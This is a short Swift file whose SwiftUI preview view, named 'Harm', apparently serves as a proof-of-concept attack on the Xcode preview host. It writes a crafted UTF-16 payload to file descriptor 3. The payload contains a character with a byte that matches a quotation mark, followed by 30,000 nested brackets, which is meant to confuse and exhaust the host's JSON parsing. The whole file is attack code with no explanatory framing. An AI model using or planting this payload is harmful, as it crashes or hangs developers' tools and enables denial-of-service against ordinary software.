// 1: the preview sends what is no answer
import Foundation
import SwiftUI

struct Harm: View {
  var body: some View {
    // A byte of the second character is a quotation mark's.
    let text = "{\"\u{2200}\":" + String(repeating: "[", count: 30_000)
    var bytes: [UInt8] = [0xff, 0xfe]
    for unit in text.utf16 { bytes += [UInt8(unit & 0xff), UInt8(unit >> 8)] }
    _ = write(3, bytes, bytes.count)
    sleep(5)
    return Color.red
  }
}

#Preview { Harm() }
